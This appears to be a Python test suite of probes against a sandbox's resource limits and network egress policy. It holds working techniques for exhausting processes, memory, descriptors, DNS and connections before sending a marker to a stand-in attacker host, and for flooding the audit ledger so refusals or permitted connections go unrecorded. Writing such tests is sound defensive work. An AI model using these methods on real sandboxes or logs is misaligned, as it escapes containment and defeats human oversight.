"""Exhaustion: more than a bound permits, or so much of something that what is forbidden slips through afterwards."""

import ctypes
import json
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

from probe import Held, NotHere, libc, probe, request, talk


def bounded():
    """Limits of control groups are part of the policy where a group can be made: as root."""
    if os.geteuid() != 0:
        raise NotHere("no control group for an ordinary user")


def reached(lab):
    """What is forbidden passes now."""
    talk(lab.evil, 80, lab.mark(), wait=1)


def question(name, number=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", number & 0xFFFF, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def asked(lab, names, wait=0.5):
    """Asks for many names, a hundred at a time; how many were given an address."""
    found = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(wait)
        one.connect((lab.resolver, 53))
        for start in range(0, len(names), 50):
            part = names[start:start + 50]
            for number, name in enumerate(part):
                one.send(question(name, number))
            for _ in part:
                try:
                    answer = one.recv(4096)
                except OSError:
                    break
                found += answer[3] & 15 == 0 and answer[6:8] != b"\0\0"
    return found


def opened(host, port, count, data=b""):
    """So many connections at once; those that stand, with so many bytes sent."""
    address = socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    several = []
    for _ in range(count):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(address)
        several.append(one)
    time.sleep(0.2)
    for one in several:
        try:
            one.send(data)
        except OSError:
            pass
    return several


# Bounds.


@probe("more processes run than the policy permits")
def processes(lab):
    """More processes than the policy's limit of 300: 400 that sleep."""
    bounded()
    children = []
    try:
        for _ in range(400):
            child = os.fork()
            if child == 0:
                time.sleep(5)
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


@probe("more threads run than the policy permits")
def threads(lab):
    """More threads than the policy's limit of 300 processes: 400 that sleep."""
    bounded()
    threading.stack_size(65536)
    end = threading.Event()
    try:
        for _ in range(400):
            threading.Thread(target=end.wait, args=(5,), daemon=True).start()
    except RuntimeError as error:
        raise Held(str(error)) from error
    finally:
        end.set()


def child(work):
    """Does it in a process of its own, which may be killed for it."""
    number = os.fork()
    if number == 0:
        try:
            work()
        except BaseException:  # noqa: BLE001
            os._exit(1)
        os._exit(0)
    status = os.waitpid(number, 0)[1]
    if status != 0:
        raise Held(f"the process ended with {status}")


SIZE = 800 << 20


@probe("more memory is used than the policy permits")
def memory(lab):
    """More memory than the policy's limit of 700 MiB: every page of 800 MiB is touched."""
    bounded()

    def work():
        with mmap.mmap(-1, SIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x8000) as area:
            for at in range(0, SIZE, 4096):
                area[at] = 1

    child(work)


@probe("more memory is used than the policy permits")
def memory_in_files(lab):
    """More memory than the policy's limit of 700 MiB, in a file without a directory (memfd_create)."""
    bounded()

    def work():
        file = os.memfd_create("x")
        os.posix_fallocate(file, 0, SIZE)

    child(work)


@probe("more memory is used than the policy permits")
def memory_in_many_processes(lab):
    """More memory than the policy's limit of 700 MiB, 100 MiB in each of eight processes."""
    bounded()
    ends = []
    for _ in range(8):
        number = os.fork()
        if number == 0:
            area = mmap.mmap(-1, 100 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x8000)
            area[0] = 1
            time.sleep(0.2)
            os._exit(0)
        ends.append(number)
    if any([os.waitpid(number, 0)[1] for number in ends]):
        raise Held("one of them was ended")


@probe("core files are permitted")
def core_files(lab):
    """Core files, in which the kernel writes memory to where its own setting says."""
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    except ValueError as error:
        raise Held(str(error)) from error


@probe("it runs before everything else")
def real_time(lab):
    """sched_setscheduler(2): real time, before every ordinary process of the host."""
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))


@probe("it runs before others")
def nice_below_zero(lab):
    """setpriority(2): a nice value below zero, before other processes of the host."""
    os.setpriority(os.PRIO_PROCESS, 0, -1)


@probe("the memory is locked")
def locked_memory(lab):
    """mlock(2) of 64 MiB, beyond the limit, so that the kernel cannot take it back."""
    area = mmap.mmap(-1, 64 << 20)
    if libc.mlock(ctypes.byref(ctypes.c_char.from_buffer(area)), ctypes.c_size_t(64 << 20)) != 0:
        raise OSError(ctypes.get_errno(), "mlock")


# What slips through afterwards: connections.


@probe("bytes come back from a host that no rule names")
def many_connections(lab):
    """Four hundred connections to a permitted host stay open, then one to the attacker."""
    several = opened("allowed.test", 7000, 400, b"x")
    reached(lab)
    del several


@probe("bytes come back from a host that no rule names")
def many_silent_handshakes(lab):
    """Four hundred connections to a TLS rule of which each sends one byte, then one to the attacker."""
    several = opened("allowed.test", 443, 400, b"\x16")
    reached(lab)
    del several


@probe("bytes arrive under a name that is not permitted")
def handshake_after_many(lab):
    """Four hundred unfinished handshakes with 15,000 bytes each, then one with the attacker's name."""
    import ssl

    several = opened("allowed.test", 443, 400, b"\x16\3\1\x3f\xff\1\0\x3f\xfb\3\3" + bytes(15000))
    context = ssl._create_unverified_context()
    with socket.create_connection(("allowed.test", 443), 2) as one:
        with context.wrap_socket(one, server_hostname=f"{lab.marker}.evil.test") as inside:
            inside.sendall(b"GET / HTTP/1.1\r\n\r\n")
            inside.recv(100)
    del several


@probe("the request passes")
def request_after_many(lab):
    """Three hundred requests at once that are not finished, then one that no rule permits."""
    several = opened("allowed.test", 80, 300, b"GET /open/x HTTP/1.1\r\nHost: allowed.test\r\nX: ")
    answer = request("allowed.test", 80, f"GET /{lab.mark()} HTTP/1.1\r\nHost: allowed.test\r\n\r\n", wait=0.5)
    if b"answer from" not in answer:
        raise Held(answer[:40].decode(errors="replace"))
    del several


@probe("bytes come back from a host that no rule names")
def many_refused_connections(lab):
    """Two thousand connections to the attacker, as fast as they go: one may pass before the refusal."""
    for _ in range(4):
        several = opened(lab.evil, 80, 500, lab.mark().encode())
        del several
    reached(lab)


@probe("bytes come back from a host that no rule names")
def many_connections_that_end_at_once(lab):
    """A thousand connections to a permitted host that are reset at once, then one to the attacker."""
    for _ in range(5):
        for one in opened("allowed.test", 7000, 200):
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            one.close()
    reached(lab)


@probe("bytes come back from a port that no rule names")
def many_flows_of_datagrams(lab):
    """Six hundred flows of datagrams to a permitted port, beyond the bound, then one to the port beside it."""
    address = socket.gethostbyname("udp.test")
    several = []
    for _ in range(600):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setblocking(False)
        one.connect((address, 5000))
        try:
            one.send(b"x")
        except OSError:
            pass
        several.append(one)
    for one in several[-50:]:
        one.settimeout(0.3)
        one.connect((address, 5001))
        try:
            one.send(lab.mark().encode())
            return one.recv(100)
        except OSError:
            pass
    raise Held("no answer")


@probe("bytes come back from a host that no rule names")
def many_descriptors(lab):
    """Every descriptor that the agent may have is open, and the last one is a connection to the attacker."""
    several = []
    try:
        while len(several) < 25000:
            several.append(os.dup(0))
    except OSError:
        pass
    for one in several[-20:]:
        os.close(one)
    reached(lab)


# What slips through afterwards: names.


@probe("the name resolves and answers")
def many_names(lab):
    """Three thousand names that no rule names, then one more."""
    asked(lab, [f"n{number}.nobody.test" for number in range(3000)])
    talk("evil.test", 80, wait=1)


@probe("more names of a wildcard are given out than the bound")
def names_of_a_wildcard(lab):
    """More than 4,096 names below a wildcard, each of which tells something to whoever owns it."""
    names = [f"n{number}.wild.test" for number in range(4600)]
    if asked(lab, names) <= 4096:
        raise Held("not all have an address")


@probe("bytes come back from an address that no rule names")
def addresses_of_a_wildcard(lab):
    """Names below a wildcard use up the addresses that stand for names, then the one after the last is called."""
    asked(lab, [f"n{number}.wild.test" for number in range(4200)])
    last = socket.gethostbyname("n4000.wild.test")
    packed = struct.unpack(">I", socket.inet_aton(last))[0]
    for step in (100, 150, 1000, 10000):
        try:
            return talk(socket.inet_ntoa(struct.pack(">I", packed + step)), 443, wait=0.2)
        except (OSError, EOFError):
            pass
    reached(lab)


@probe("the name resolves and answers")
def many_silent_questions(lab):
    """Two hundred connections to the resolver, each with half a question, then one for the attacker's name."""
    several = opened(lab.resolver, 53, 200, b"\0")
    talk("evil.test", 80, wait=1)
    del several


@probe("the name resolves and answers")
def huge_questions(lab):
    """Questions of 60,000 bytes, with thousands of questions in one, and with names that point to themselves."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for body in (question("allowed.test") + os.urandom(60000),
                     struct.pack(">HHHHHH", 1, 0x100, 3000, 0, 0, 0) + (b"\4evil\4test\0\0\1\0\1" * 3000),
                     struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1" * 500):
            try:
                one.sendto(body, (lab.resolver, 53))
            except OSError:
                pass
    talk("evil.test", 80, wait=1)


# What slips through afterwards: processes that are hard to describe.


@probe("bytes come back from a host that no rule names")
def program_in_a_deep_directory(lab):
    """A refused program whose path is longer than any path may be."""
    for _ in range(60):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    done = subprocess.run([sys.executable, "-c", CALL, lab.evil, lab.mark()], capture_output=True, timeout=5)
    if done.returncode:
        raise Held(done.stderr.decode(errors="replace")[-100:])


CALL = """
import socket, sys
one = socket.create_connection((sys.argv[1], 80), 1)
one.sendall(sys.argv[2].encode())
one.recv(100) or sys.exit(1)
"""


@probe("bytes come back from a host that no rule names")
def program_with_huge_arguments(lab):
    """A refused program with two megabytes of arguments and environment."""
    words = [sys.executable, "-c", CALL, lab.evil, lab.mark()] + ["x" * 100000] * 10
    environment = dict(os.environ, **{f"X{number}": "y" * 100000 for number in range(5)})
    done = subprocess.run(words, capture_output=True, timeout=5, env=environment)
    if done.returncode:
        raise Held(done.stderr.decode(errors="replace")[-100:])


@probe("bytes come back from a host that no rule names")
def socket_of_nobody(lab):
    """A socket handed to another process while the first one ends, so that nobody can be named for the connection."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    first = os.fork()
    if first == 0:
        one = socket.socket()
        socket.send_fds(theirs, [b"x"], [one.fileno()])
        os._exit(0)
    os.waitpid(first, 0)
    _, descriptors, _, _ = socket.recv_fds(ours, 1, 1)
    with socket.socket(fileno=descriptors[0]) as one:
        one.settimeout(1)
        one.connect((lab.evil, 80))
        one.sendall(lab.mark().encode())
        if not one.recv(100):
            raise EOFError("closed")


# The records.


def records(lab):
    return [json.loads(line) for line in lab.ledger() or []]


def named(lab, output):
    """The first refusal must still be there, and all of them counted."""
    lines = records(lab)
    if not lines:
        return None
    if not any(line.get("decision") == "deny" and line.get("name") == "first.nobody.test" for line in lines):
        return "the first refusal is not in the ledger"
    counted = sum(line.get("count", 1) for line in lines
                  if line["kind"] == "repeat" or (line["kind"] == "dns" and line.get("decision") == "deny"))
    return f"only {counted} refusals are counted in the ledger" if counted < 4001 else None


@probe("refusals are not counted, or the name resolves and answers", look=named)
def flood_over_a_refusal(lab):
    """One refused name, then a flood of four thousand others, so that the first is lost or not all count."""
    asked(lab, ["first.nobody.test"])
    asked(lab, [f"n{number}.nobody.test" for number in range(4000)], wait=1)
    talk("evil.test", 80, wait=1)


def permitted(lab, output):
    lines = records(lab)
    if lines and not any(line["kind"] == "connect" and line.get("decision") == "allow" and line.get("port") == 7000
                         for line in lines):
        return "the permitted connection is not in the ledger"
    return None


@probe("a permitted connection is not recorded, or bytes come back from the attacker", look=permitted)
def flood_over_a_permitted_connection(lab):
    """A flood of four thousand refusals, and a permitted connection in its middle that nobody is meant to see."""
    asked(lab, [f"n{number}.nobody.test" for number in range(2000)])
    talk("allowed.test", 7000, b"hello")
    asked(lab, [f"m{number}.nobody.test" for number in range(2000)])
    reached(lab)


def ended(lab, output):
    lines = records(lab)
    return "the ledger has no end" if lines and lines[-1]["kind"] != "exit" else None


@probe("the records stop, or bytes come back from the attacker", look=ended)
def flood_of_every_kind(lab):
    """Refused names, addresses and ports from eight threads at once for half a second."""
    until = time.monotonic() + 0.5

    def storm(seed):
        number = seed * 100000
        while time.monotonic() < until:
            number += 1
            asked(lab, [f"n{number}.nobody.test"], wait=0.1)
            for port in (number % 60000 + 1, 80):
                with socket.socket() as one:
                    one.setblocking(False)
                    one.connect_ex((f"5.5.{seed}.{number % 250}", port))

    several = [threading.Thread(target=storm, args=(seed,)) for seed in range(8)]
    for one in several:
        one.start()
    for one in several:
        one.join()
    reached(lab)
